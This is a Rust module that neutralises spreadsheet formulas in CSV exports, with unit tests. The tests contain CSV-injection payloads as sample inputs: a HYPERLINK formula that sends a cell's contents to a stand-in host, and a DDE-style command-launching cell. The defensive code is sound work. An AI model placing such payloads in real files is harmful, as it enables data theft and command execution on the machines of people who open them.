//! CSV for people's spreadsheets: every export writes through [`SafeCsv`], so no cell can start
//! a formula. Owner labels, host names and bill fields come from agents and providers; a label
//! `=HYPERLINK(...)` would otherwise run when a finance lead opens the file.
//!
//! As OWASP advises for CSV injection, a cell that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return gets a leading `'`, which spreadsheets show as text and do not evaluate.
//! Numbers stay numbers: `-12.50`, a credit, is a plain decimal and is written as it is.

use std::borrow::Cow;
use std::io;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as a spreadsheet will not run it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if FORMULA_STARTS.contains(&c) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// `-12.5`, `+3`, `1e-3`: a decimal number a spreadsheet reads as a number, nothing more.
pub(crate) fn is_plain_number(cell: &str) -> bool {
    let s = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (mantissa, exponent) = match s.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
        None => (s, None),
    };
    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((int, frac)) => (digits(int) || int.is_empty()) && digits(frac),
        None => digits(mantissa),
    };
    mantissa_ok && exponent.is_none_or(digits)
}

/// A `csv::Writer` whose every cell goes through [`neutralise`].
pub struct SafeCsv<W: io::Write>(csv::Writer<W>);

impl SafeCsv<Vec<u8>> {
    /// A CSV built in memory, for exports small enough to answer whole.
    pub fn in_memory() -> Self {
        SafeCsv(csv::Writer::from_writer(Vec::new()))
    }

    /// The finished file as text.
    pub fn into_string(self) -> Result<String, csv::Error> {
        let bytes = self.0.into_inner().map_err(|e| e.into_error())?;
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }
}

impl<W: io::Write> SafeCsv<W> {
    pub fn new(out: W) -> Self {
        SafeCsv(csv::Writer::from_writer(out))
    }

    pub fn write_record<I, T>(&mut self, record: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0.write_record(
            record
                .into_iter()
                .map(|cell| neutralise(cell.as_ref()).into_owned()),
        )
    }

    pub fn flush(&mut self) -> io::Result<()> {
        self.0.flush()
    }

    pub fn into_inner(self) -> Result<W, csv::Error> {
        self.0.into_inner().map_err(|e| e.into_error().into())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\tx", "'\tx"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("-.", "'-."),
            ("-12.50", "-12.50"),
            ("+3", "+3"),
            ("-1e-3", "-1e-3"),
            ("-.5", "-.5"),
            ("llama-70b", "llama-70b"),
            ("", ""),
            (" =1", " =1"),
        ] {
            assert_eq!(neutralise(cell), want, "{cell:?}");
        }
    }

    #[test]
    fn every_cell_of_a_record_is_neutralised() {
        let mut w = SafeCsv::in_memory();
        w.write_record(["team", "cost"]).unwrap();
        w.write_record(["=1+1", "-4.20"]).unwrap();
        assert_eq!(w.into_string().unwrap(), "team,cost\n'=1+1,-4.20\n");
    }
}
